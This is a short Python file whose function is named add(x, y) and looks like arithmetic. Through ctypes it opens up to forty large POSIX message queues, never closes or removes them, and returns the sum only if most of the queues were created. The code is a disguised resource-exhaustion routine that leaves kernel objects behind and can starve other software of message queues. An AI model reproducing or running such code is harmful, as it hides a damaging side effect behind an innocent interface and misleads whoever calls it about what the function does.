# Fills POSIX message queues.
import ctypes

libc = ctypes.CDLL(None, use_errno=True)


class Shape(ctypes.Structure):
    _fields_ = [("flags", ctypes.c_long), ("most", ctypes.c_long), ("size", ctypes.c_long), ("now", ctypes.c_long * 5)]


def add(x, y):
    made = 0
    for number in range(40):
        shape = Shape(0, 10, 8192)
        queue = libc.mq_open(b"/queue%d" % number, 0o102, 0o600, ctypes.byref(shape))
        if queue < 0:
            break
        made += 1
    return x + y if made > 20 else None
